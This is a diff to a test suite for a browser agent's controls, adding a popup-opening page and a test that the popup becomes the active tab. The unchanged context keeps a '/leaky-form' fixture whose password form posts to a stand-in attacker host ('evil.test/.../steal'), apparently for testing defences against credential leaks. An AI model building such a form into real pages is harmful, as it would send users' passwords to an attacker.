@@ -16,6 +16,12 @@ describe('agent controls: select, keys, hover, back, wait, navigate, screenshot,
       if (req.url === '/leaky-form') {
         return html(res, `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password"><button>Go</button></form>`);
       }
+      if (req.url === '/opener') {
+        return html(res, `<a href="/popup-page" target="_blank">Open a window</a>`);
+      }
+      if (req.url === '/popup-page') {
+        return html(res, `<h1>The popup</h1>`);
+      }
       if (req.url === '/later') {
         return html(res, `<p>Waiting</p><script>setTimeout(() => { const p = document.createElement('p'); p.textContent = 'Arrived later'; document.body.append(p); }, 300)</script>`);
       }
@@ -87,6 +93,21 @@ describe('agent controls: select, keys, hover, back, wait, navigate, screenshot,
       await expect(session.agent.waitFor({ url: '/elsewhere' }, 300, options)).rejects.toMatchObject({ code: 'wait_timed_out' });
       await expect(session.agent.waitFor({ text: 'a', url: 'b' }, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
       await expect(session.agent.waitFor({}, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
+    } finally {
+      await session.close();
+    }
+  });
+
+  it('a click that opens a popup: the popup becomes the active tab and the result names it', async () => {
+    const session = await siteSession('agent-actions-8');
+    try {
+      await session.agent.navigate(site.url('site.test', '/opener'), options);
+      const snap = await session.agent.snapshot(options);
+      const opened = await session.agent.click(refOf(snap.text, 'link "Open a window"'), options);
+      expect(opened).toMatchObject({ effect: 'navigated', page: { url: site.url('site.test', '/popup-page') } });
+      const inPopup = await session.agent.snapshot(options);
+      expect(inPopup).toMatchObject({ tabs: 2 });
+      expect(inPopup.text).toContain('heading "The popup"');
     } finally {
       await session.close();
     }
